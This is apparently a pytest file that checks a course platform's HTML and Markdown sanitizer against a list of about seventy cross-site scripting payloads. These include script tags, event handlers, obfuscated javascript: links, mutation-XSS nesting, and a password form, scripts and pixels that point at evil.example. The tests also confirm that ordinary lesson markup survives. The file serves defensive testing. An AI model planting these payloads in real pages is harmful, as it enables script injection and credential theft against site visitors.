"""What an author, or who took over an author's account, cannot bring to a reader's browser."""

import re

import bleach
import pytest

from lms.courses.lesson import read_lesson
from lms.courses.markup import render
from lms.courses.safe_html import sanitize

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="https://a.example" onclick="alert(1)">x</a>',
    '<a href="https://a.example" target="_blank" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onmouseover="alert(1)">x</p>',
    "<p/onclick=alert(1)>x",
    '<div class="top" id="noi-dung">x</div>',
    '<p id="csrf_token">x</p>',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Gửi</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<img src=//evil.example/tep/x.png>",
    '<img src="/tep/../../dang-xuat">',
    '<picture><source srcset="https://evil.example/a.webp 360w"></picture>',
    "<video src=/hoc poster=https://evil.example/p.png autoplay></video>",
    "<audio src=data:audio/wav;base64,AAAA onplay=alert(1) autoplay></audio>",
    "<track src=https://evil.example/a.vtt kind=metadata>",
    "<img src=x srcset='https://evil.example/b.png 2x'>",
    "<svg><image href=https://evil.example/c.png></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='https://a.example\" onmouseover=\"alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript:123)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "t\\" onclick=\\"alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "# <img src=x onerror=alert(1)>",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w:-]*)([^>]*)>")
ATTRIBUTE = re.compile(r"""([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|\S+)""")
HARMLESS = {
    *("p", "h2", "h3", "ul", "ol", "li", "strong", "em", "a", "blockquote", "code", "pre", "hr", "br"),
    *("table", "thead", "tbody", "tr", "th", "td", "sup", "article", "aside", "section", "div"),
    *("figure", "figcaption", "picture", "source", "img", "video", "audio", "track", "small"),
}
SHOWS = {
    *("alt", "width", "height", "loading", "decoding", "type", "sizes", "controls", "preload", "playsinline"),
    *("kind", "srclang", "label", "default", "download"),
}
"""Attributes of what is shown that load nothing."""
OURS = re.compile(r"/tep/[0-9a-f]{64}/[\w.-]+( \d+w)?(, /tep/[0-9a-f]{64}/[\w.-]+ \d+w)*")


def dangers(html: str) -> list[str]:
    """Elements, attributes and addresses in HTML that a lesson never has; read without any of our own lists."""
    found = []
    for tag, rest in TAG.findall(html):
        if tag.lower() not in HARMLESS:
            found.append(tag)
        for name, value in ATTRIBUTE.findall(rest):
            plain = value.strip("\"'")
            if name == "href" and not re.match(
                r"#(nguon|p)-|[a-z0-9-]+$|/tep/[0-9a-f]{64}/[\w.-]+$|https?://|mailto:|tel:", plain
            ):
                found.append(f"{name}={plain}")
            if name in ("src", "srcset", "poster"):
                if not OURS.fullmatch(plain):
                    found.append(f"{name}={plain}")
            elif name not in {"href", "rel", "id", "data-p", "class", "aria-label", "start"} | SHOWS:
                found.append(name)
            if name == "id" and not re.fullmatch(r"(p|nguon)-\d+", plain):
                found.append(f"{name}={plain}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_leaves_anything_that_acts(payload):
    assert dangers(sanitize(payload)) == []
    assert dangers(sanitize(f"<p>trước {payload} sau</p>")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_through_a_lesson(payload):
    text = f"---\ntitle: Bài\nminutes: 5\n---\n\n{payload}\n\n::: rule {payload.splitlines()[0]}\n{payload}\n:::\n"
    body = render(read_lesson(text, "01-bai.md"), "01-bai.md", {}).body
    assert body
    assert dangers("".join(block["html"] for block in body)) == []


def test_the_danger_check_sees_what_bleach_alone_lets_through():
    """Why nh3 has the last word."""
    alone = bleach.clean('<a href="javascript:123">x</a>', tags={"a"}, attributes={"a": ["href"]})
    assert dangers(alone) == ["href=javascript:123"]


def test_what_a_lesson_is_made_of_stays():
    html = (
        '<aside class="idea" aria-label="Ý chính"><p id="p-1" data-p="1"><strong>Xin số liệu</strong></p></aside>'
        '<div class="scroll"><table><tbody><tr><td class="num">1</td></tr></tbody></table></div>'
        '<ol start="3"><li id="nguon-1">Nguồn</li></ol>'
        '<p><sup><a href="#nguon-1">[1]</a></sup> <a href="mailto:a@b.example">thư</a></p>'
    )
    clean = sanitize(html)
    kept = ('class="idea"', 'aria-label="Ý chính"', 'id="p-1"', 'data-p="1"', 'class="scroll"', 'class="num"')
    assert [part for part in kept if part not in clean] == []
    assert [part for part in ('start="3"', 'href="#nguon-1"', "mailto:a@b.example") if part not in clean] == []


def test_a_link_to_elsewhere_gives_nothing_of_this_page_away():
    assert 'rel="noopener noreferrer"' in sanitize('<a href="https://a.example">x</a>')
